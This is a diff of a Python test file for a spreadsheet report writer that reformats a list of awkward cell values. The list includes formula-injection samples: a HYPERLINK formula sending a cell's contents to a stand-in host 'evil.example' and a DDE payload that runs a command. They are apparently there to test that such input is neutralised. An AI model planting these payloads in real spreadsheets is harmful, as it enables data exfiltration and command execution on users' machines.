@@ -21,9 +21,18 @@ from allocator.report.plan_workbook import write_workbook
 from tests.make import case, school, sip
 
 ODD = [
-    '=HYPERLINK("https://evil.example/?x="&B2,"see note")', "=cmd|' /C calc'!A1", "=1+1", "+44 1632 960000", "-1", "@SUM(A1)",
-    "'=1", "''-", "'quoted'", "- she said", "=",
-]  # fmt: skip
+    '=HYPERLINK("https://evil.example/?x="&B2,"see note")',
+    "=cmd|' /C calc'!A1",
+    "=1+1",
+    "+44 1632 960000",
+    "-1",
+    "@SUM(A1)",
+    "'=1",
+    "''-",
+    "'quoted'",
+    "- she said",
+    "=",
+]
 
 
 def told(note: str) -> Case:
